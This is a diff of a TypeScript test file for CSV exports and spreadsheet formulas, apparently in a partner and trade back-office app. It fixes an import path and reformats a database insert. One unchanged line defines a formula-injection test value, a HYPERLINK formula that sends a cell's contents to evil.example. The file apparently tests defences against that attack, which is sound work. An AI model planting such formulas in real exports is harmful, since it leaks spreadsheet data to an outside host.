@@ -19,7 +19,7 @@ import { partners, partnerStores } from "../../db/schema/index.ts";
 import { describeEachDatabase } from "../../tests/helpers/databases.ts";
 import { bearer, BACKOFFICE, makeStaff, staffTokens } from "../../tests/helpers/staff.ts";
 import { placeTestTrade, smartphoneOffer, uniqueClientAddress, uniqueTradeEmail } from "../../tests/helpers/trades.ts";
-import { staffEnvFrom } from "./backoffice/staff-env.server.ts";
+import { staffEnvFrom } from "../sessions/staff-env.server.ts";
 
 const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Preis")';
 let seq = 0;
@@ -100,17 +100,15 @@ describeEachDatabase("CSV exports and spreadsheet formulas", (ctx) => {
     const db = ctx().database.db;
     const now = new Date();
     const partnerId = randomUUID();
-    await db
-      .insert(partners)
-      .values({
-        id: partnerId,
-        key: `k-${partnerId.slice(0, 12)}`,
-        name: "Kette Formel",
-        kind: "agan",
-        voucherPrefix: "KF",
-        createdAt: now,
-        updatedAt: now,
-      });
+    await db.insert(partners).values({
+      id: partnerId,
+      key: `k-${partnerId.slice(0, 12)}`,
+      name: "Kette Formel",
+      kind: "agan",
+      voucherPrefix: "KF",
+      createdAt: now,
+      updatedAt: now,
+    });
     const [store] = await db
       .insert(partnerStores)
       .values({
